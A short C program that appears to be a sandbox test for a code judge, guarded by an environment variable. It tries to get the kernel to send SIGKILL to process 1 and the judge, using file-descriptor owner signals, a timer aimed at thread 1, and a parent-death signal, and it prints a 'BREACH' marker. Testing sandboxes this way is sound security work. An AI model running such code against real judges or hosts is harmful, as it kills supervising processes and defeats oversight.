// make the kernel signal process 1 and the judge: pipe owners, timers, parent death
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define GUARD if (!getenv("ATTACK_IN_SANDBOX")) return 1

#include <time.h>

int main(void) {
    GUARD;
    for (int fd = 0; fd < 3; fd++)
        for (int pid = -3; pid < 30; pid++) {
            if (pid == getpid() || pid == -getpgrp() || pid == 0) continue;
            fcntl(fd, F_SETOWN, pid);
            fcntl(fd, F_SETSIG, SIGKILL);
            fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_ASYNC);
            fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) & ~O_ASYNC);
        }
    fcntl(0, F_SETOWN, getpid());
    fcntl(1, F_SETOWN, getpid());
    struct sigevent event = {.sigev_notify = SIGEV_THREAD_ID, .sigev_signo = SIGKILL};
    event._sigev_un._tid = 1;
    timer_t timer;
    if (timer_create(CLOCK_MONOTONIC, &event, &timer) == 0) puts("BREACH timer for process 1");
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    puts("DONE");
}
